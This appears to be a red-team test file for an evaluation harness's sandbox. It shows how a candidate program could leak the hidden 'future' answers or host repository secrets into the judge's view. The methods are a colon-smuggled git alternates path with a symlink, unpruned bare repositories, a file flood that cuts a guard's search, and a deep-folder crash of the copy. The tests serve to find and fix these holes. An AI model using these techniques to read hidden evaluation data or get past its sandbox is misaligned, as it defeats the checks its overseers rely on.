@@ -1,0 +1,530 @@
+"""Red team of the judge's copy of the candidate and of the read-only folders' own bound (issue 29).
+
+Two commits, red-teamed here by a helper who wrote neither: f925d2f (the judge's copy of the
+candidate, ``harness/sandbox_copy.py::copy_regular_files``, carries a ``.git`` folder found in
+the candidate's folder pruned at its base, or refuses it) and 59ee07b (a phase's read-only
+folders are searched for task repositories to 100,000 entries, a cut there said in the
+snapshot's ``hidden``, not a row). The attacker is the candidate: its code in the train phase
+writes the candidate folder the judge later copies (and, through the prepare phase, the shared
+cache); its code in the judge phase (a test file or conftest a task's tests import, the gym
+policy) reads what the judge's box holds. The future is ``FUTURE_SECRET_42`` (``_task``); a host
+repository outside every bind holds ``HOST_SECRET_77``. The first line is on in every attack.
+Each asserts its attack ran (a control). An attack that wins is ``xfail(strict=False)``
+asserting the safe outcome, its reason the mechanism; one that is stopped passes, saying by
+what. Results against 3c00b7b:
+
+- A, a colon in a folder name (WON): ``git_prune._git`` hands the task's store to host git as
+  ``GIT_ALTERNATE_OBJECT_DIRECTORIES=<git dir>/objects``, a colon-separated list: a git
+  directory under ``s:t/`` makes host git read ``<...>/s`` too — a link the candidate left
+  there, to any store of the host — and pack from it whatever commit HEAD names. The judge's
+  copy then holds the task's future (its id known: a public fix) or a host repository's content;
+  A2: the same repository left in the cache by the prepare phase is pruned that way before the
+  train phase, which reads the host's content in its box.
+- B, a task repository not named ``.git`` (WON): a bare repository (``upstream.git``) or a
+  separate git directory (``.repo-git`` named by a ``.git`` file) — both task repositories to
+  ``git_guard.find_git_dirs`` (the train phase prunes them) — goes into the judge's copy whole,
+  and the judge phase is not traced (no ``before_phase``): its box reads the future.
+- C, a ``.git`` file naming the original store, absolute or relative (stopped: the original
+  candidate folder is masked in the judge's box; the relative one names the pruned copy).
+- D, the operator's ``[sandbox] read_paths`` in the judge phase (WON): the judge is untraced,
+  so a task repository there is bound whole (the train phase prunes it).
+- E, the read-only bound (WON): ``find_git_dirs`` counts entries across all the read-only roots
+  at once and the run directory comes first; the prepare phase writes ``evidence/prepare`` in
+  it, so 100,000 entries there leave the operator's read paths unsearched before the train phase
+  — a task repository there is bound whole, and the cut is said only in the snapshot's
+  ``hidden``, which nothing reads (no row, no audit, no note on the run).
+- F, host-side limits (WON, three ways): a folder ~1,000 deep crashes the copy (RecursionError:
+  no refusal, the run fails as evotree's own error, not charged); the pruning of one ``.git``
+  (its ``modules/`` too, 200 a level, nested) runs to the end before the copy's limits are
+  checked; the pack of a ``.git`` refused as over the limit is kept in the host's prune cache.
+- G, honest work (a change): a repository the train phase made loses its other branches and
+  its stash in the judge's copy (only what HEAD reaches goes across).
+- Not attacked, why: a train process left running while the judge copies (the box is a pid
+  namespace with ``--die-with-parent`` and the executor copies once no train process is alive);
+  cache poisoning (a key holds the store's path and the identity of its folders and packs).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from test_task_prune import _ENV, SECRET, _commit, _git, _task
+
+from evotree.harness import git_guard, git_prune
+from evotree.harness.sandbox import finish_trace, wrap
+from evotree.harness.sandbox_copy import copy_regular_files
+from evotree.harness.sandbox_launch import accounted, sandbox_env
+from evotree.harness.sandbox_spec import SandboxSpec
+from test_redteam_trace_deputy import seccomp as seccomp  # noqa: F401 - the fixture
+
+#: content of a repository of the host outside the task (never bound into a box)
+HOST_SECRET = "HOST_SECRET_77"
+
+
+@pytest.fixture(autouse=True)
+def _first_line_on(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    """The first line on (the default), and a private prune cache (the host's is left alone)."""
+    monkeypatch.delenv(git_prune.ENV_TASK_REPOS, raising=False)
+    cache = tmp_path / "prune-cache"
+    cache.mkdir(mode=0o700)
+    monkeypatch.setattr(git_prune, "_cache_root", lambda: cache)
+
+
+def _host_repo(path: Path) -> str:
+    """A repository of the host holding ``HOST_SECRET``; its commit's id."""
+    path.mkdir(parents=True)
+    _git(path, "init", "-q", "-b", "main")
+    return _commit(path, "h.txt", f"{HOST_SECRET}\n", "host")
+
+
+def _copy(candidate: Path, tmp_path: Path, **limits: int) -> tuple[Path, list[str]]:
+    """The judge's copy of ``candidate`` (``phases._judge``'s call); its folder, refusals."""
+    copy = tmp_path / "judge-candidate"
+    copy.mkdir()
+    report = copy_regular_files(
+        candidate,
+        copy,
+        max_files=limits.get("max_files", 100_000),
+        max_bytes=limits.get("max_bytes", 1 << 30),
+    )
+    return copy, report.refused
+
+
+def _all_text(git_dir: Path) -> str:
+    """Every object of ``git_dir`` as git prints it (packs are compressed: bytes lie)."""
+    proc = subprocess.run(
+        ["git", "--git-dir", str(git_dir), "cat-file", "--batch-all-objects", "--batch"],
+        capture_output=True,
+        env=_ENV,
+    )
+    return proc.stdout.decode("utf-8", "replace")
+
+
+def _box(spec: SandboxSpec, script: str) -> subprocess.CompletedProcess:
+    """``python3 -c script`` in the sandbox ``spec`` describes."""
+    return subprocess.run(
+        accounted(wrap(spec, ["python3", "-c", script])),
+        env=sandbox_env(dict(_ENV)),
+        capture_output=True,
+        text=True,
+        timeout=180,
+    )
+
+
+def _judge_spec(root: Path, copy: Path, extra: tuple[Path, ...] = ()) -> SandboxSpec:
+    """The judge phase's box as ``harness/executors/phases.py::_judge`` makes it (no trace: the
+    judge is not a train-side phase; its policy sandbox left out)."""
+    fresh = root.parent / "judge-fresh"
+    fresh.mkdir(exist_ok=True)
+    planted = root / "evidence" / "eval"
+    planted.mkdir(parents=True, exist_ok=True)
+    return SandboxSpec(
+        cwd=fresh,
+        read_only=(root, fresh, copy, *extra),
+        read_write=(planted,),
+        masked=(root / "candidate",),
+    )
+
+
+def _log_all(git_dir: Path) -> str:
+    """A script printing ``git --git-dir <git_dir> log --all -p`` (rc and text, one line)."""
+    return (
+        "import subprocess\n"
+        f'out = subprocess.run(["git", "--git-dir", "{git_dir}", "log", "--all", "-p"],'
+        " capture_output=True, text=True)\n"
+        'print("rc", out.returncode, "seen", out.stdout.replace("\\n", " | ")[-3000:],'
+        " out.stderr[-300:])\n"
+    )
+
+
+# ----------------------------------------------- A: a colon in a folder name (host git, alternates)
+
+_COLON = ("future-of-the-task", "host-repository")
+
+
+@pytest.mark.xfail(
+    strict=False,
+    reason="WON: git_prune._git sets GIT_ALTERNATE_OBJECT_DIRECTORIES=str(git_dir/'objects'); git "
+    "splits that variable at ':' (a PATH-like list). The train phase leaves candidate/s:t/ (git "
+    "init; HEAD detached at a commit id it knows: the task's public fix, or a host repository's "
+    "commit) and candidate/s, a symbolic link to a store (task/.git/objects, the original task "
+    "store with its future, or any repository of the host). copy_regular_files prunes "
+    "candidate/s:t/.git: _check_self_contained sees no link inside it, host git reads "
+    "'<candidate>/s' (the link, followed) and 't/.git/objects' as alternates, and pack-objects "
+    "--revs packs what HEAD reaches from them into the judge's copy: the future's (or the host "
+    "repository's) blobs are in copy/s:t/.git.",
+)
+@pytest.mark.parametrize("store", _COLON)
+def test_a_colon_in_a_folder_name_points_host_git_at_a_linked_store(
+    tmp_path: Path, store: str
+) -> None:
+    candidate = tmp_path / "run" / "candidate"
+    ids = _task(candidate / "task")
+    if store == "future-of-the-task":
+        target, head, secret = "task/.git/objects", ids["future"], SECRET
+    else:
+        head = _host_repo(tmp_path / "host")
+        target, secret = str(tmp_path / "host" / ".git" / "objects"), HOST_SECRET
+    evil = candidate / "s:t"
+    evil.mkdir()
+    _git(evil, "init", "-q", "-b", "main")
+    (evil / ".git" / "HEAD").write_text(head + "\n")
+    os.symlink(target, candidate / "s")
+    assert secret not in _all_text(evil / ".git")  # the repository holds nothing of its own
+    copy, refused = _copy(candidate, tmp_path)
+    assert (copy / "task" / "a.txt").read_text() == "base\n"  # control: the copy ran
+    assert SECRET not in _all_text(copy / "task" / ".git")  # the task itself is pruned
+    assert any(r.startswith("s: symbolic link") for r in refused), refused
+    carried = _all_text(copy / "s:t" / ".git") if (copy / "s:t" / ".git").exists() else ""
+    assert secret not in carried, carried[-500:]
+
+
+@pytest.mark.heavy
+@pytest.mark.xfail(
+    strict=False,
+    reason="WON: the prepare phase (candidate code, the shared cache read-write) leaves "
+    "cache/s:t (git init --bare, HEAD detached at a host repository's commit id) and cache/s, a "
+    "link to that repository's objects. Before the train phase, before_phase searches the "
+    "read-only cache (59ee07b), finds cache/s:t bare and prunes it with "
+    "GIT_ALTERNATE_OBJECT_DIRECTORIES='<cache>/s:t/objects', which git splits at ':' into "
+    "'<cache>/s' (the link, followed on the host) and 't/objects': pack-objects packs the host "
+    "repository's commit into the copy bound at cache/s:t, and git in the train box shows "
+    "HOST_SECRET_77 (the workspace's own store, holding the hidden judge files at the "
+    "candidate's commit, is such a repository).",
+)
+def test_a_repository_the_prepare_phase_left_in_the_cache_reads_a_host_store(
+    tmp_path: Path, seccomp: None
+) -> None:
+    head = _host_repo(tmp_path / "host")
+    cache = tmp_path / "cache"
+    cache.mkdir()
+    _git(cache, "init", "-q", "--bare", "s:t")
+    (cache / "s:t" / "HEAD").write_text(head + "\n")
+    os.symlink(str(tmp_path / "host" / ".git" / "objects"), cache / "s")
+    work = tmp_path / "run" / "candidate"
+    _task(work)
+    spec = SandboxSpec(
+        cwd=work,
+        read_only=(tmp_path / "run", cache),
+        read_write=(work,),
+        trace=tmp_path / "raw.trace",
+    )
+    script = (
+        "import subprocess\n"
+        f'out = subprocess.run(["git", "--git-dir", "{cache}/s:t", "log", "-p"],'
+        " capture_output=True, text=True)\n"
+        'print("rc", out.returncode, "seen", out.stdout.replace("\\n", " | "), out.stderr[-300:])\n'
+    )
+    proc = _box(spec, script)
+    (tmp_path / "ev").mkdir()
+    finish_trace(spec, tmp_path / "ev")
+    assert proc.stdout.startswith("rc "), proc.stdout + proc.stderr[-2000:]  # it ran
+    assert HOST_SECRET not in proc.stdout, proc.stdout
+
+
+# ------------------------------------------------------- B: a task repository not named .git
+
+
+def _bare(candidate: Path) -> Path:
+    """The image's bare clone of the task (all its branches) at candidate/upstream.git."""
+    _git(candidate, "clone", "-q", "--no-hardlinks", "--mirror", "task", "upstream.git")
+    return candidate / "upstream.git"
+
+
+def _separate(candidate: Path) -> Path:
+    """A clone whose git directory is candidate/.repo-git, named by repo/.git (relative)."""
+    _git(candidate, "clone", "-q", "--no-hardlinks", "--no-checkout", "task", "repo")
+    os.rename(candidate / "repo" / ".git", candidate / ".repo-git")
+    (candidate / "repo" / ".git").write_text("gitdir: ../.repo-git\n")
+    _git(
+        candidate / "repo",
+        "update-ref",
+        "refs/heads/fix",
+        _git(candidate / "task", "rev-parse", "fix"),
+    )
+    return candidate / ".repo-git"
+
+
+_LAYOUTS = {"bare-upstream.git": _bare, "separate-git-dir": _separate}
+
+
+@pytest.mark.xfail(
+    strict=False,
+    reason="WON: copy_regular_files prunes a folder NAMED '.git' only (git_dir is called for "
+    "entry.name == '.git'); a bare repository (upstream.git) or a separate git directory "
+    "(.repo-git, which repo/.git names) is a task repository to git_guard.find_git_dirs "
+    "(_is_bare: HEAD, objects/, refs/) — the train phase prunes it — but the judge's copy "
+    "carries it whole as plain files: its fix branch and every future object. The judge "
+    "phase runs untraced (phases._judge: no trace, so no before_phase), so nothing prunes it "
+    "there either.",
+)
+@pytest.mark.parametrize("layout", sorted(_LAYOUTS))
+def test_a_task_repository_not_named_git_goes_to_the_judge_whole(
+    tmp_path: Path, layout: str
+) -> None:
+    candidate = tmp_path / "run" / "candidate"
+    _task(candidate / "task")
+    store = _LAYOUTS[layout](candidate)
+    found, _ = git_guard.find_git_dirs([candidate])
+    assert store in found  # control: a task repository to the guard (the train phase prunes it)
+    assert SECRET in _all_text(store)  # control: it holds the future
+    copy, _ = _copy(candidate, tmp_path)
+    assert SECRET not in _all_text(copy / "task" / ".git")  # the .git folder is pruned
+    carried = copy / store.name
+    assert not carried.exists() or SECRET not in _all_text(carried)
+
+
+@pytest.mark.heavy
+@pytest.mark.xfail(
+    strict=False,
+    reason="WON: B in the judge's own box (phases._judge's spec: the copy read-only, the "
+    "original candidate masked, no trace): git --git-dir <copy>/upstream.git log --all -p, as a "
+    "conftest the candidate wrote would run it, shows FUTURE_SECRET_42.",
+)
+def test_the_judges_box_reads_a_bare_repository_of_the_copy(tmp_path: Path, seccomp: None) -> None:
+    root = tmp_path / "run"
+    candidate = root / "candidate"
+    _task(candidate / "task")
+    _bare(candidate)
+    copy, _ = _copy(candidate, tmp_path)
+    proc = _box(_judge_spec(root, copy), _log_all(copy / "upstream.git"))
+    assert proc.stdout.startswith("rc 0"), proc.stdout + proc.stderr[-2000:]  # it ran
+    assert "base" in proc.stdout  # control: git read it
+    assert SECRET not in proc.stdout
+
+
+# ---------------------------------------------------- C: a .git file naming the original store
+
+
+@pytest.mark.heavy
+def test_a_git_file_naming_the_original_store_reads_nothing_in_the_judges_box(
+    tmp_path: Path, seccomp: None
+) -> None:
+    """Stopped: the train phase leaves sub/.git, a file naming the original task store by its
+    host path, and rel/.git naming it relatively. The copy takes both files as they are; in the
+    judge's box the original candidate folder is masked (an empty tmpfs): git in copy/sub finds
+    no repository; git in copy/rel reads the pruned copy (its base, no future)."""
+    root = tmp_path / "run"
+    candidate = root / "candidate"
+    _task(candidate / "task")
+    for name, gitdir in (("sub", candidate / "task" / ".git"), ("rel", "../task/.git")):
+        (candidate / name).mkdir()
+        (candidate / name / ".git").write_text(f"gitdir: {gitdir}\n")
+    copy, _ = _copy(candidate, tmp_path)
+    script = (
+        "import subprocess\n"
+        "for name in ('sub', 'rel'):\n"
+        f'    out = subprocess.run(["git", "-C", "{copy}/" + name, "log", "--all", "-p"],'
+        " capture_output=True, text=True)\n"
+        '    print(name, out.returncode, out.stdout.replace("\\n", " | ")[-2000:],'
+        " out.stderr[-200:])\n"
+    )
+    proc = _box(_judge_spec(root, copy), script)
+    assert "sub " in proc.stdout and "rel 0" in proc.stdout, proc.stdout + proc.stderr[-2000:]
+    assert "base" in proc.stdout  # control: git in rel read the (pruned) task
+    assert SECRET not in proc.stdout
+
+
+# ------------------------------------------------- D: the operator's read paths in the judge
+
+
+@pytest.mark.heavy
+@pytest.mark.xfail(
+    strict=False,
+    reason="WON: phases._judge binds the policy's extra read-only paths (the operator's "
+    "[sandbox] read_paths) into the judge's box and runs it without a trace, so "
+    "git_guard.before_phase never runs there: a task repository among those paths — pruned "
+    "before the train and prepare phases, whose trace is on — is bound whole into the judge, "
+    "whose box runs the candidate's code (a conftest, the gym policy): git log --all -p shows "
+    "the future.",
+)
+def test_the_judge_binds_the_operators_read_paths_whole(tmp_path: Path, seccomp: None) -> None:
+    root = tmp_path / "run"
+    (root / "candidate").mkdir(parents=True)
+    data = tmp_path / "data"
+    _task(data / "task")
+    train = SandboxSpec(
+        cwd=root / "candidate",
+        read_only=(root, data),
+        read_write=(root / "candidate",),
+        trace=tmp_path / "raw.trace",
+    )
+    trained = _box(train, _log_all(data / "task" / ".git"))
+    (tmp_path / "ev").mkdir()
+    finish_trace(train, tmp_path / "ev")
+    assert trained.stdout.startswith("rc 0") and "base" in trained.stdout, trained.stdout
+    assert SECRET not in trained.stdout  # control: the train phase sees it pruned
+    copy = tmp_path / "judge-candidate"
+    copy.mkdir()
+    proc = _box(_judge_spec(root, copy, (data,)), _log_all(data / "task" / ".git"))
+    assert proc.stdout.startswith("rc 0") and "base" in proc.stdout, proc.stdout + proc.stderr
+    assert SECRET not in proc.stdout
+
+
+# ----------------------------------------------- E: the read-only bound, cut by an earlier phase
+
+
+@pytest.mark.heavy
+@pytest.mark.xfail(
+    strict=False,
+    reason="WON: git_guard.find_git_dirs counts 'seen' across every root of one call, and "
+    "before_phase searches the read-only roots (paths.root, *read_paths, cache) in one call "
+    "bounded at MAX_READ_ONLY_ENTRIES = 100,000. paths.root (the run directory) comes first and "
+    "holds evidence/prepare, which the prepare phase (candidate code) writes: 100,001 files "
+    "there cut the search before the operator's read paths are looked into, so data/task/.git "
+    "is bound whole into the train phase and git log --all -p shows the future. The cut is said "
+    "only in the snapshot's 'hidden', which nothing reads (after_phase/compare read 'problems' "
+    "and 'repos'): no git_state row, no audit finding, no note on the run. An honest candidate "
+    "tree of over 100,000 entries (a large checkout) cuts it the same way.",
+)
+def test_a_flood_in_the_run_directory_cuts_the_search_of_the_operators_read_paths(
+    tmp_path: Path, seccomp: None
+) -> None:
+    root = tmp_path / "run"
+    work = root / "candidate"
+    work.mkdir(parents=True)
+    flood = root / "evidence" / "prepare"
+    flood.mkdir(parents=True)
+    for i in range(git_guard.MAX_READ_ONLY_ENTRIES + 1):
+        os.close(os.open(flood / f"{i:06d}", os.O_CREAT | os.O_WRONLY, 0o644))
+    (root / "evidence" / "train").mkdir()
+    data = tmp_path / "data"
+    _task(data / "task")
+    spec = SandboxSpec(
+        cwd=work,
+        read_only=(root, data),
+        read_write=(work, root / "evidence" / "train"),
+        trace=tmp_path / "raw.trace",
+    )
+    proc = _box(spec, _log_all(data / "task" / ".git"))
+    snap = json.loads(git_guard.snapshot_path(spec.trace).read_text())
+    (tmp_path / "ev").mkdir()
+    finish_trace(spec, tmp_path / "ev")
+    rows = git_guard.after_phase(spec.trace) if spec.trace.exists() else []
+    assert proc.stdout.startswith("rc 0") and "base" in proc.stdout, proc.stdout + proc.stderr
+    assert any("read-only" in h for h in snap["hidden"]), snap  # control: the cut happened
+    assert SECRET not in proc.stdout or rows, (proc.stdout[-300:], rows)
+
+
+# ------------------------------------------------------------------- F: host-side limits
+
+_DEPTH = 1100
+
+
+@pytest.mark.xfail(
+    strict=False,
+    raises=RecursionError,
+    reason="WON: copy_regular_files walks folders by recursion (walk -> walk), one Python "
+    "frame a level and no depth bound: the train phase leaves a folder ~1,000 levels deep (2 "
+    "characters a level, well under PATH_MAX) and the judge's copy raises RecursionError — no "
+    "refusal line; phases._judge does not catch it, so the run fails as evotree's own error "
+    "('not the candidate: not charged', executors/local.py::_record_exception) and the "
+    "candidate is never judged.",
+)
+def test_a_deep_folder_crashes_the_judges_copy(tmp_path: Path) -> None:
+    candidate = tmp_path / "run" / "candidate"
+    deep = candidate / "/".join(["d"] * _DEPTH)
+    deep.mkdir(parents=True)
+    (deep / "f").write_text("x")
+    (candidate / "ok.txt").write_text("ok")
+    assert _DEPTH > sys.getrecursionlimit()  # control: deeper than Python recurses
+    copy, refused = _copy(candidate, tmp_path)
+    assert (copy / "ok.txt").read_text() == "ok"
+    assert refused or (copy / "/".join(["d"] * _DEPTH) / "f").exists()
+
+
+_MODULES = 40
+
+
+@pytest.mark.xfail(
+    strict=False,
+    reason="WON: sandbox_copy's git_dir runs git_prune.prune_copy to the end and only then "
+    "counts its files against max_files/max_bytes; prune_copy also prunes every "
+    "modules/<name> (up to 200 a level, and each module's own modules/ again: 200 x 200 = "
+    "40,200 repositories from one .git). Here one .git with 40 unborn modules and max_files=5: "
+    "3 host git calls a module run before the copy refuses it (about 14 ms a module here, so "
+    "40,200 modules hold the host ~9 minutes before the judge starts, with no timeout; a later "
+    "finalize copies the same candidate again). Without modules, 33,000 small .git folders "
+    "under max_files=100,000 cost the same.",
+)
+def test_the_copy_prunes_everything_before_it_counts(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    candidate = tmp_path / "run" / "candidate"
+    candidate.mkdir(parents=True)
+    _git(candidate, "init", "-q", "-b", "main")
+    for i in range(_MODULES):
+        module = candidate / ".git" / "modules" / f"m{i}"
+        (module / "objects").mkdir(parents=True)
+        (module / "refs").mkdir()
+        (module / "HEAD").write_text("ref: refs/heads/main\n")
+        (module / "config").write_text("")
+    calls = []
+    real = git_prune._git
+
+    def counting(*args: object, **kwargs: object) -> tuple[int, bytes, str]:
+        calls.append(args[1:2])
+        return real(*args, **kwargs)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(git_prune, "_git", counting)
+    started = time.monotonic()
+    _, refused = _copy(candidate, tmp_path, max_files=5)
+    took = time.monotonic() - started
+    assert any(r.startswith(".git: over the copy limit") for r in refused), refused  # control
+    assert len(calls) <= 10, f"{len(calls)} host git calls in {took:.2f}s before the refusal"
+
+
+@pytest.mark.xfail(
+    strict=False,
+    reason="WON: prune_copy keeps the pack it made in the host's prune cache "
+    "(~/.cache/evotree/task-prune, git_prune._keep) before sandbox_copy's git_dir checks the "
+    "copy's limits: a .git the train phase made, refused as over max_bytes, still leaves its "
+    "pack (here 3 MiB of random data past a 1 MiB limit) in the operator's cache after the run "
+    "(16 entries kept: up to 16 such packs of up to candidate_max_mb each, evicting the task "
+    "repositories' own packs).",
+)
+def test_a_refused_git_directory_leaves_its_pack_in_the_hosts_cache(tmp_path: Path) -> None:
+    candidate = tmp_path / "run" / "candidate"
+    candidate.mkdir(parents=True)
+    _git(candidate, "init", "-q", "-b", "main")
+    (candidate / "big.bin").write_bytes(os.urandom(3 << 20))
+    _git(candidate, "add", "big.bin")
+    _git(candidate, "commit", "-q", "-m", "big")
+    (candidate / "big.bin").unlink()
+    _, refused = _copy(candidate, tmp_path, max_bytes=1 << 20)
+    assert any(r.startswith(".git: over the copy limit") for r in refused), refused  # control
+    kept = sum(p.stat().st_size for p in (tmp_path / "prune-cache").rglob("*") if p.is_file())
+    assert kept < 1 << 20, f"{kept} bytes kept in the cache"
+
+
+# ------------------------------------------------------------------------- G: honest work
+
+
+@pytest.mark.xfail(
+    strict=False,
+    reason="A change to honest work (not documented for the judge's copy): a repository the "
+    "train phase made in the candidate folder (its outputs committed, an experiment on another "
+    "branch, a stash) goes to the judge pruned at HEAD — the branch and the stash are gone, so "
+    "a judge reading them (git log --all, git show exp:...) fails.",
+)
+def test_a_repository_the_candidate_made_keeps_its_branches_in_the_judges_copy(
+    tmp_path: Path,
+) -> None:
+    candidate = tmp_path / "run" / "candidate"
+    candidate.mkdir(parents=True)
+    _git(candidate, "init", "-q", "-b", "main")
+    _commit(candidate, "out.txt", "result\n", "result")
+    _git(candidate, "checkout", "-q", "-b", "exp")
+    _commit(candidate, "exp.txt", "experiment\n", "experiment")
+    _git(candidate, "checkout", "-q", "main")
+    copy, refused = _copy(candidate, tmp_path)
+    assert not refused and (copy / "out.txt").read_text() == "result\n"  # control
+    assert _git(copy, "log", "--oneline", "main") != ""  # HEAD's history went across
+    branches = _git(copy, "branch", "--format=%(refname:short)").split()
+    assert "exp" in branches, branches
